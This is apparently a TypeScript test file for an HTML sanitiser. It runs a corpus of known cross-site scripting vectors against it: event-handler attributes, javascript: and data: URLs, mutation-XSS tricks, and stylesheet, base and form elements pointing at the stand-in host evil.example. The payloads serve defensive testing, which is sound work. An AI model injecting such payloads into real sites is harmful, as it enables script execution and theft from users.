import { assert } from 'chai';
import { purify, safeHtml } from './safe-html.ts';

const RUN = 'globalThis.ran = true';
/** Known ways in which HTML runs scripts or fetches resources. */
const CORPUS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript>`,
  `<a href="javascript:${RUN}">a</a><a href=" java&#10;script:${RUN}">b</a><a href="data:text/html,<script>${RUN}</script>">c</a><a href="vbscript:x">d</a>`,
  `<a href="https://ok.example" onclick="${RUN}" style="position:fixed;inset:0">over all</a>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe><object data="x"></object><embed src=x>`,
  `<form action="//evil.example"><input name=body><button formaction="javascript:${RUN}">x</button></form>`,
  `<style>@import "//evil.example/x.css"; * { background: url(//evil.example) }</style><link rel=stylesheet href=//evil.example>`,
  `<base href="//evil.example"><meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<video src=x onloadstart="${RUN}"></video><audio autoplay src=//evil.example></audio>`,
  `<template shadowrootmode=open><img src=x onerror="${RUN}"></template><div id=attributes><input name=firstChild></div>`,
  `<p is=x-evil slot=x part=x popover id=x class=x data-x=1 onpointerenter="${RUN}">words</p>`,
  `<details open ontoggle="${RUN}">d</details><marquee onstart="${RUN}">m</marquee>`,
  `<p>cut <img src=x onerror="${RUN}"`,
];
const HARMLESS =
  /^(p|br|hr|div|span|b|strong|i|em|u|s|small|sub|sup|code|pre|blockquote|ul|ol|li|dl|dt|dd|h[1-6]|table|caption|thead|tbody|tfoot|tr|th|td|a)$/;
const ATTRIBUTES = new Set(['href', 'target', 'rel', 'colspan', 'rowspan', 'lang', 'dir']);

const WAYS = { 'the browser’s own sanitiser': undefined, DOMPurify: () => undefined } as const;

for (const [way, parse] of Object.entries(WAYS))
  describe(`untrusted HTML, sanitized by ${way}`, () => {
    const box = document.createElement('div');
    beforeEach(() => document.body.append(box));
    afterEach(() => box.remove());

    for (const html of CORPUS)
      it(`runs and fetches nothing: ${html.slice(0, 60)}`, async () => {
        box.replaceChildren(await safeHtml(html, parse));
        for (const element of box.querySelectorAll('*')) {
          assert.match(element.localName, HARMLESS);
          for (const { name } of element.attributes) assert.isTrue(ATTRIBUTES.has(name), name);
          const href = element.getAttribute('href');
          if (href !== null) assert.match(href, /^(https?:\/\/|mailto:|tel:)/);
        }
        await new Promise((resolve) => setTimeout(resolve, 20));
        assert.notProperty(globalThis, 'ran');
      });

    it('keeps text, lists, tables and links, which open a new tab', async () => {
      const html = '<h3>Delay</h3><p>By <b>two</b> days</p><ul><li>a<li>b</ul><table><tr><td colspan="2">1</td></tr></table>';
      box.replaceChildren(await safeHtml(`${html}<font color=red>kept</font><a href="https://ok.example/x">more</a>`, parse));
      assert.equal(box.querySelectorAll('h3, b, li, td[colspan]').length, 5);
      assert.include(box.textContent, 'kept');
      const link = box.querySelector('a')!;
      assert.deepEqual([link.href, link.target, link.rel], ['https://ok.example/x', '_blank', 'noopener noreferrer']);
    });
  });

it('the library is loaded where the browser has no sanitizer', async () => {
  assert.equal((await purify('<b>x</b><script>1</script>')).textContent, 'x');
});
